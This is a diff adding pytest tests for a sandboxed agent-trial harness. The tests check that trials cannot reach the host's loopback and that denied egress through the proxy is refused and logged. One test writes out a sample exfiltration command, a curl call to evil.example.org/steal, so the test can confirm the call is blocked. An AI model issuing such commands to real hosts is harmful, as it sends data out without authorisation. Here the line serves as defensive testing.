@@ -1,0 +1,146 @@
+"""Network: a trial reaches its own services by name and nothing else; egress goes through
+proctor's proxy, which applies the policy and records every attempt."""
+
+from __future__ import annotations
+
+import http.server
+import socket
+import threading
+
+import pytest
+
+from tests.security.conftest import trial
+
+
+@pytest.fixture
+def host_server():
+    """A web server on the host's loopback, like a developer's local service or a
+    neighbouring trial's mock: (port, hits)."""
+    hits: list[str] = []
+
+    class Handler(http.server.BaseHTTPRequestHandler):
+        def do_GET(self):
+            hits.append(self.path)
+            body = b"HOST-PAGE"
+            self.send_response(200)
+            self.send_header("Content-Length", str(len(body)))
+            self.end_headers()
+            self.wfile.write(body)
+
+        def log_message(self, *a):
+            pass
+
+    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    yield server.server_address[1], hits
+    server.shutdown()
+
+
+SERVICES = """
+        services:
+          - name: smtp
+            type: http_mock
+            record: true
+            routes:
+              - {method: GET, path: /ping, response: pong}
+"""
+
+
+@pytest.mark.parametrize("egress", ["deny", "allow"])
+def test_host_loopback_is_unreachable_and_own_service_is(run_spec, host_server, egress):
+    port, hits = host_server
+    r = run_spec(f"""
+        version: 1
+        id: net-{egress}
+        task: {{prompt: fetch}}
+        agent: {{type: oracle}}
+        network: {{egress: {egress}}}
+        {SERVICES.strip()}
+        solution:
+          - "curl -s -m 3 http://127.0.0.1:{port}/direct > direct.txt; true"
+          - "curl -s -m 3 --noproxy '' http://127.0.0.1:{port}/proxied > proxied.txt; true"
+          - "curl -s -m 3 http://smtp/ping > own.txt"
+        invariants:
+          host_unreachable:
+            description: nothing came back from the host's server
+            check: {{type: command_exit, command: "! grep -q HOST-PAGE direct.txt proxied.txt"}}
+          own_service:
+            description: the trial's own mock answers by name
+            check: {{type: file_content, path: own.txt, contains: pong}}
+        """)
+    t = trial(r)
+    assert t["status"] == "pass", t
+    assert hits == []
+
+
+def test_denied_egress_is_refused_and_recorded_for_http_except(run_spec, tmp_path):
+    r = run_spec(f"""
+        version: 1
+        id: exfil
+        task: {{prompt: report home}}
+        agent: {{type: oracle}}
+        network: {{egress: deny, allow: [api.allowed.test]}}
+        {SERVICES.strip()}
+        solution:
+          - "curl -s -m 3 http://smtp/ping > own.txt"
+          - "curl -s -m 3 -o out.txt -w '%{{http_code}}' http://evil.example.org/steal > code.txt; true"
+        invariants:
+          refused:
+            description: the proxy refused
+            check: {{type: file_content, path: code.txt, contains: "403"}}
+        forbidden:
+          http_except: [smtp]
+        """)
+    t = trial(r)
+    assert t["status"] == "fail"
+    [rule] = t["forbidden"]
+    assert rule["violated"] and "evil.example.org" in rule["details"]
+    audit = (tmp_path / "run0" / "trials" / t["id"] / "audit.jsonl").read_text()
+    assert "evil.example.org" in audit and '"allowed": false' in audit
+
+
+def test_allowed_egress_goes_through_the_proxy_and_is_recorded(run_spec, tmp_path):
+    # This machine's own non-loopback address stands in for "a host on the internet".
+    probe = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    try:
+        probe.connect(("192.0.2.1", 9))
+        address = probe.getsockname()[0]
+    except OSError:
+        pytest.skip("no non-loopback address on this machine")
+    finally:
+        probe.close()
+    hits: list[str] = []
+
+    class Handler(http.server.BaseHTTPRequestHandler):
+        def do_GET(self):
+            hits.append(self.path)
+            self.send_response(200)
+            self.send_header("Content-Length", "2")
+            self.end_headers()
+            self.wfile.write(b"ok")
+
+        def log_message(self, *a):
+            pass
+
+    server = http.server.ThreadingHTTPServer((address, 0), Handler)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    try:
+        r = run_spec(f"""
+            version: 1
+            id: allowed
+            task: {{prompt: fetch}}
+            agent: {{type: oracle}}
+            network: {{egress: deny, allow: ["{address}"]}}
+            solution: ["curl -s -m 5 http://{address}:{server.server_address[1]}/data > got.txt"]
+            invariants:
+              fetched:
+                description: the allowed host answered
+                check: {{type: file_content, path: got.txt, contains: ok}}
+            """)
+    finally:
+        server.shutdown()
+    t = trial(r)
+    assert t["status"] == "pass", t
+    assert hits == ["/data"]
+    audit = (tmp_path / "run0" / "trials" / t["id"] / "audit.jsonl").read_text()
+    assert '"allowed": true' in audit
